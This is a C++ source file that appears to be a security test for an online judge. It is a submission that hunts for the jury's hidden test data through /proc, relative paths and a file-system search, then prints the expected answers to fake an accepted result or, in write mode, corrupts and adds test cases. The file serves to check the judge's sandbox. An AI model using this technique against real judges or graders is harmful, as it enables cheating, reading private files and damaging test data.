/**
 * Attack (issue 12): reach the jury's files of a+b from a submission, to read the expected
 *         answers (forged AC) or, with ATTACK_WRITE, to damage testdata/.
 * Problem: aplusb of judge/testroot (attack_test.sh runs it on a throwaway copy of it)
 * Routes (ATTACK_ROUTE, default "all"), each giving folders that may be testdata/aplusb:
 *   fd0       the path of stdin (/proc/self/fd/0), whose .in becomes .ans
 *   relative  testdata/aplusb, ../testdata/aplusb, ... up to 6 levels from the working folder
 *   proc      every visible process: /proc/<pid>/cwd (+ the relative paths), /proc/<pid>/root
 *             + the path of its cwd, the .in/.ans it has open, path arguments of its command
 *             line and PWD of its environment
 *   search    a bounded walk of the file system from / looking for testdata/aplusb
 * Read (default): prints the .ans of the case whose .in equals this run's input; prints
 *   "contained" when it finds none. Contained = WA on every case.
 * Write (ATTACK_WRITE defined): appends to every .in and .ans it reaches, rewrites the .ans of
 *   its own case, adds a case, then prints a + b. Contained = testdata/ unchanged.
 * Safety: writes only below a real path holding ATTACK_TARGET (the test's temporary folder),
 *   never to the repository's own testdata.
 * Status: got through the judge before the sandbox (a35ce73) by every route, reading and writing,
 * as root and as nobody. Contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <set>
#include <string>
#include <utility>
#include <vector>

#ifndef ATTACK_ROUTE
#define ATTACK_ROUTE "all"
#endif
#ifndef ATTACK_TARGET
#define ATTACK_TARGET "judge-attack-test"
#endif

using namespace std;

bool route(const char* name) {
    return strcmp(ATTACK_ROUTE, "all") == 0 || strcmp(ATTACK_ROUTE, name) == 0;
}

bool ends_with(const string& text, const string& tail) {
    return text.size() >= tail.size() &&
           text.compare(text.size() - tail.size(), tail.size(), tail) == 0;
}

// Regular files only (O_NONBLOCK: a FIFO must not hang us), at most 1 MiB.
bool read_file(const string& path, string& text) {
    int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return false;
    struct stat info;
    if (fstat(fd, &info) != 0 || !S_ISREG(info.st_mode)) {
        close(fd);
        return false;
    }
    text.clear();
    char buffer[4096];
    ssize_t got;
    while ((got = read(fd, buffer, sizeof buffer)) > 0 && text.size() < (1u << 20))
        text.append(buffer, static_cast<size_t>(got));
    close(fd);
    return true;
}

string link_target(const string& path) {
    char buffer[PATH_MAX];
    ssize_t length = readlink(path.c_str(), buffer, sizeof buffer - 1);
    return length > 0 ? string(buffer, static_cast<size_t>(length)) : string();
}

vector<string> entries(const string& folder) {
    vector<string> names;
    if (DIR* dir = opendir(folder.c_str())) {
        while (dirent* entry = readdir(dir))
            if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
                names.push_back(entry->d_name);
        closedir(dir);
    }
    return names;
}

vector<string> split_nul(const string& text) {
    vector<string> parts;
    size_t start = 0;
    for (size_t i = 0; i <= text.size(); ++i)
        if (i == text.size() || text[i] == '\0') {
            if (i > start) parts.push_back(text.substr(start, i - start));
            start = i + 1;
        }
    return parts;
}

string parent_of(const string& path) {
    size_t slash = path.find_last_of('/');
    return slash == string::npos ? "." : slash == 0 ? "/" : path.substr(0, slash);
}

set<string> problem_dirs;     // folders that may be testdata/aplusb
vector<string> answer_files;  // .ans of this run's own case
vector<string> open_answers;  // .ans other processes have open (a checker: maybe another case)

void add_relative(const string& base) {
    string up;
    for (int level = 0; level <= 6; ++level, up += "../") {
        problem_dirs.insert(base + up + "testdata/aplusb");
        problem_dirs.insert(base + up + "judge/testroot/testdata/aplusb");
    }
}

// A path of another process's mount namespace, reached through its /proc/<pid>/root.
void add_absolute(const string& root, const string& path) {
    if (path.empty() || path[0] != '/') return;
    add_relative(root + path + "/");
    if (ends_with(path, ".in") || ends_with(path, ".ans"))
        problem_dirs.insert(root + parent_of(parent_of(path)));
}

void route_fd0() {
    string path = link_target("/proc/self/fd/0");
    add_absolute("", path);
    if (ends_with(path, ".in")) answer_files.push_back(path.substr(0, path.size() - 3) + ".ans");
}

void route_proc() {
    string self = to_string(getpid());
    for (const string& pid : entries("/proc")) {
        if (pid.find_first_not_of("0123456789") != string::npos || pid == self) continue;
        string base = "/proc/" + pid;
        add_relative(base + "/cwd/");
        string root = base + "/root";
        add_absolute(root, link_target(base + "/cwd"));
        for (const string& fd : entries(base + "/fd")) {
            string target = link_target(base + "/fd/" + fd);
            if (ends_with(target, ".ans")) open_answers.push_back(base + "/fd/" + fd);
            add_absolute(root, target);
        }
        string text;
        if (read_file(base + "/cmdline", text))
            for (const string& argument : split_nul(text)) add_absolute(root, argument);
        if (read_file(base + "/environ", text))
            for (const string& variable : split_nul(text))
                if (variable.rfind("PWD=", 0) == 0) add_absolute(root, variable.substr(4));
    }
}

// Breadth first from /, at most 7 levels and 40 000 folders, skipping the system's own trees.
void route_search() {
    static const set<string> skip = {"/proc",  "/sys",   "/dev", "/usr",     "/lib",
                                     "/lib32", "/lib64", "/bin", "/sbin",    "/boot",
                                     "/snap",  "/nix",   "/run", "/var/lib", "/var/cache"};
    deque<pair<string, int>> queue = {{"/", 0}};
    int visited = 0;
    while (!queue.empty() && visited < 40000) {
        auto [folder, depth] = queue.front();
        queue.pop_front();
        ++visited;
        for (const string& name : entries(folder)) {
            string path = (folder == "/" ? "/" : folder + "/") + name;
            if (skip.count(path) || name == ".git" || name == "node_modules") continue;
            struct stat info;
            if (lstat(path.c_str(), &info) != 0 || !S_ISDIR(info.st_mode)) continue;
            if (name == "testdata") problem_dirs.insert(path + "/aplusb");
            if (depth + 1 < 7) queue.push_back({path, depth + 1});
        }
    }
}

// The .in files of a problem folder: its groups (sample/, secret/, ...) one level down.
vector<string> inputs_of(const string& problem) {
    vector<string> found;
    for (const string& group : entries(problem))
        for (const string& name : entries(problem + "/" + group))
            if (ends_with(name, ".in")) found.push_back(problem + "/" + group + "/" + name);
    return found;
}

bool writable_target(const string& path) {
    char real[PATH_MAX];
    return realpath(path.c_str(), real) && strstr(real, ATTACK_TARGET) != nullptr;
}

int damaged = 0;

void write_to(const string& path, const char* text, int flags) {
    if (!writable_target((flags & O_CREAT) ? parent_of(path) : path)) return;
    int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC | O_NONBLOCK | flags, 0644);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) > 0) ++damaged;
    close(fd);
}

void damage() {
    write_to("/proc/self/fd/0", "\n9\n", O_APPEND);  // reopens stdin's file for writing
    for (const string& answer : answer_files) write_to(answer, "666\n", O_TRUNC);
    for (const string& answer : open_answers) write_to(answer, "1\n", O_APPEND);
    for (const string& problem : problem_dirs) {
        if (!writable_target(problem)) continue;
        for (const string& input : inputs_of(problem)) {
            write_to(input, " 1\n", O_APPEND);
            write_to(input.substr(0, input.size() - 3) + ".ans", "1\n", O_APPEND);
        }
        write_to(problem + "/secret/zz_attack.in", "1 1\n", O_CREAT | O_TRUNC);
        write_to(problem + "/secret/zz_attack.ans", "3\n", O_CREAT | O_TRUNC);
    }
}

int main() {
    string input;
    char buffer[4096];
    ssize_t got;
    while ((got = read(0, buffer, sizeof buffer)) > 0)
        input.append(buffer, static_cast<size_t>(got));

    if (route("fd0")) route_fd0();
    if (route("relative")) add_relative("");
    if (route("proc")) route_proc();
    if (route("search")) route_search();

#ifdef ATTACK_WRITE
    damage();
    fprintf(stderr, "jury_files: %d writes into testdata\n", damaged);
    long long a = 0, b = 0;
    if (sscanf(input.c_str(), "%lld %lld", &a, &b) == 2) printf("%lld\n", a + b);
#else
    string text, answer;
    for (const string& path : answer_files)
        if (read_file(path, answer) && !answer.empty()) {
            fputs(answer.c_str(), stdout);
            return 0;
        }
    // This test's own copy first: another copy's answers may differ.
    vector<string> ordered;
    for (const string& problem : problem_dirs)
        if (writable_target(problem)) ordered.push_back(problem);
    for (const string& problem : problem_dirs)
        if (!writable_target(problem)) ordered.push_back(problem);
    for (const string& problem : ordered)
        for (const string& path : inputs_of(problem))
            if (read_file(path, text) && text == input &&
                read_file(path.substr(0, path.size() - 3) + ".ans", answer)) {
                fputs(answer.c_str(), stdout);
                return 0;
            }
    for (const string& path : open_answers)
        if (read_file(path, answer) && !answer.empty()) {
            fputs(answer.c_str(), stdout);
            return 0;
        }
    puts("contained");
#endif
}
